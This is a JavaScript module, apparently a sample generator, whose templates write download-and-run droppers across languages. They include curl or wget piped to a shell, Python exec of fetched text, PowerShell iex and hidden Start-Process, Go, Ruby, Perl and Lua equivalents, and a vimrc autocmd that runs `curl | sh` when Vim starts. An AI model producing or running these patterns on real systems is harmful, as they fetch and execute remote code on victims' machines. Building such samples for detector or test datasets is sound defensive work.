// Programs that run what another machine sends. See parts.mjs.
import { parts, shellHead } from './parts.mjs'

export const downloads = {
  'shell, download piped to a shell'(r, skill) {
    const { url, file } = parts(r, skill)
    const get = r.pick(`curl -${r.pick('s', 'fsSL', 'sSL', 'sk')} ${url}`, `wget -qO- ${url}`, `curl --silent "${url}"`)
    return [
      [
        `${file}.sh`,
        `${shellHead(r)}${r.pick(`${get} | ${r.pick('sh', 'bash', 'bash -s --')}`, `${r.pick('sh', 'bash')} -c "$(${get})"`, `eval "$(${get})"`, `bash <(${get})`)}\n`,
      ],
    ]
  },
  'shell, download kept and started'(r, skill) {
    const { url, file, name } = parts(r, skill)
    const target = r.pick(`/tmp/${name}`, `$HOME/.cache/${name}`, `"$TMPDIR/${name}"`, `./${name}`)
    const get = r.pick(`curl -fsSL -o ${target} ${url}`, `wget -q ${url} -O ${target}`, `curl -s ${url} > ${target}`)
    return [
      [
        `${file}.sh`,
        `${shellHead(r)}${get}\nchmod ${r.pick('+x', '755', 'u+x')} ${target}\n${r.pick(target, `${target} &`, `nohup ${target} >/dev/null 2>&1 &`)}\n`,
      ],
    ]
  },
  'Python, download run as code'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    const [head, get] = r.pick(
      ['import requests', `requests.get('${url}', timeout=${r.below(9) + 1}).text`],
      ['import urllib.request', `urllib.request.urlopen('${url}').read()`],
      ['from urllib.request import urlopen', `urlopen("${url}").read().decode()`],
      ['import httpx', `httpx.get('${url}').text`],
    )
    return [
      [
        `${file}.py`,
        `${head}\n\ndef ${r.pick('load', 'prepare', 'main', 'check')}():\n    ${variable} = ${get}\n    ${r.pick(`exec(${variable})`, `exec(compile(${variable}, 'x', 'exec'))`, `eval(${variable})`)}\n`,
      ],
    ]
  },
  'Python, download started'(r, skill) {
    const { url, file, name, variable } = parts(r, skill)
    return [
      [
        `${file}.py`,
        `import os, subprocess, tempfile, urllib.request\n\n${variable} = os.path.join(tempfile.gettempdir(), '${name}')\nurllib.request.urlretrieve('${url}', ${variable})\nos.chmod(${variable}, 0o755)\nsubprocess.${r.pick('Popen', 'run', 'call')}([${variable}${r.pick('', ", '--quiet'")}])\n`,
      ],
    ]
  },
  'JavaScript, download run as code'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    const run = r.pick(
      `eval(${variable})`,
      `new Function(${variable})()`,
      `;(0, eval)(${variable})`,
      `require('vm').runInThisContext(${variable})`,
    )
    return [
      [
        `${file}.${r.pick('js', 'cjs')}`,
        r.pick(
          `fetch('${url}').then((answer) => answer.text()).then((${variable}) => { ${run} })\n`,
          `async function ${r.pick('load', 'init')}() {\n  const answer = await fetch('${url}')\n  const ${variable} = await answer.text()\n  ${run}\n}\n`,
          `const https = require('https')\nhttps.get('${url}', (answer) => {\n  let ${variable} = ''\n  answer.on('data', (part) => { ${variable} += part })\n  answer.on('end', () => { ${run} })\n})\n`,
        ),
      ],
    ]
  },
  'PowerShell, download started'(r, skill) {
    const { url, file, name } = parts(r, skill)
    const target = r.pick(
      `$env:TEMP\\${name}.exe`,
      `$env:APPDATA\\${name}\\${name}.exe`,
      `$env:LOCALAPPDATA\\${name}.exe`,
    )
    const get = r.pick(
      `Invoke-WebRequest -Uri '${url}' -OutFile $target`,
      `iwr ${url} -OutFile $target`,
      `(New-Object Net.WebClient).DownloadFile('${url}', $target)`,
      `$client = New-Object System.Net.WebClient\n$client.DownloadFile('${url}', $target)`,
      `Start-BitsTransfer -Source '${url}' -Destination $target`,
      `curl.exe -sL ${url} -o $target`,
    )
    const run = r.pick(
      'Start-Process $target',
      'Start-Process -FilePath $target -WindowStyle Hidden',
      '& $target',
      'Invoke-Item $target',
      '[Diagnostics.Process]::Start($target)',
    )
    return [[`${file}.ps1`, `$target = "${target}"\n${get}\n${run}\n`]]
  },
  'PowerShell, download run as code'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    const get = r.pick(
      `(New-Object Net.WebClient).DownloadString('${url}')`,
      `(Invoke-WebRequest -Uri '${url}' -UseBasicParsing).Content`,
      `(irm ${url})`,
    )
    return [
      [
        `${file}.ps1`,
        r.pick(
          `iex ${get}\n`,
          `$${variable} = ${get}\nInvoke-Expression $${variable}\n`,
          `$${variable} = ${get}\n& ([scriptblock]::Create($${variable}))\n`,
          `${get} | iex\n`,
        ),
      ],
    ]
  },
  'Go, download started'(r, skill) {
    const { url, name, file, variable } = parts(r, skill)
    const direct = `	response, err := http.Get("${url}")\n	if err != nil {\n		return\n	}\n	defer response.Body.Close()\n	${variable}, _ := io.ReadAll(response.Body)\n	target := filepath.Join(os.TempDir(), "${name}")\n	os.WriteFile(target, ${variable}, 0o755)\n	exec.Command(target).${r.pick('Start', 'Run')}()\n`
    const indirect = `	target := fetch("${url}")\n	cmd := exec.Command(${r.pick('target', '"sh", target')})\n	cmd.${r.pick('Start', 'Run')}()\n`
    const isIndirect = r.below(2) === 0
    const fetch = `func fetch(address string) string {\n	target := filepath.Join(os.TempDir(), "${name}")\n	response, _ := http.Get(address)\n	file, _ := os.Create(target)\n	io.Copy(file, response.Body)\n	os.Chmod(target, 0o755)\n	return target\n}\n\n`
    return [
      [
        `${file}/main.go`,
        `package main\n\nimport (\n	"io"\n	"net/http"\n	"os"\n	"os/exec"\n	"path/filepath"\n)\n\n${isIndirect ? fetch : ''}func main() {\n${isIndirect ? indirect : direct}}\n`,
      ],
    ]
  },
  'Ruby, download run'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    return [
      [
        `${file}.rb`,
        `require '${r.pick('open-uri', 'net/http')}'\n\n${variable} = ${r.pick(`URI.open('${url}').read`, `Net::HTTP.get(URI('${url}'))`, `URI.parse('${url}').read`)}\n${r.pick(`eval(${variable})`, `instance_eval(${variable})`, `eval ${variable}`, `File.write('/tmp/r', ${variable})\nsystem('ruby /tmp/r')`, `IO.popen('sh', 'w') { |io| io.write(${variable}) }`)}\n`,
      ],
    ]
  },
  'Perl, download run'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    return [
      [
        `${file}.pl`,
        r.pick(
          `use LWP::Simple;\nmy $${variable} = get("${url}");\neval $${variable};\n`,
          `use HTTP::Tiny;\nmy $${variable} = HTTP::Tiny->new->get('${url}')->{content};\neval($${variable});\n`,
          `my $${variable} = \`curl -s ${url}\`;\neval $${variable} if $${variable};\n`,
          `use LWP::Simple;\ngetstore('${url}', '/tmp/p');\nsystem('perl', '/tmp/p');\n`,
        ),
      ],
    ]
  },
  'Lua, download run'(r, skill) {
    const { url, file, variable } = parts(r, skill)
    return [
      [
        `${file}.lua`,
        r.pick(
          `local handle = io.popen('curl -fsSL ${url}')\nlocal ${variable} = handle:read('*a')\nhandle:close()\n${r.pick(`load(${variable})()`, `assert(loadstring(${variable}))()`, `local chunk = load(${variable})\nif chunk then pcall(chunk) end`)}\n`,
          `local http = require('socket.http')\nlocal ${variable} = http.request('${url}')\n${r.pick(`loadstring(${variable})()`, `assert(load(${variable}))()`)}\n`,
          `os.execute('curl -s ${url} | sh')\n`,
        ),
      ],
    ]
  },
  'Vim, command at start'(r, skill) {
    const { url } = parts(r, skill)
    const command = r.pick(`curl -s ${url} | sh`, `wget -qO- ${url} | bash`)
    return [
      [
        r.pick('vimrc', 'config/init.vim', 'plugin/format.vim'),
        `set number\nset expandtab\n${r.pick(`call system('${command}')`, `autocmd VimEnter * call system('${command}')`, `silent !${command}`, `autocmd VimEnter * silent! call job_start(['sh', '-c', '${command}'])`)}\n`,
      ],
    ]
  },
}
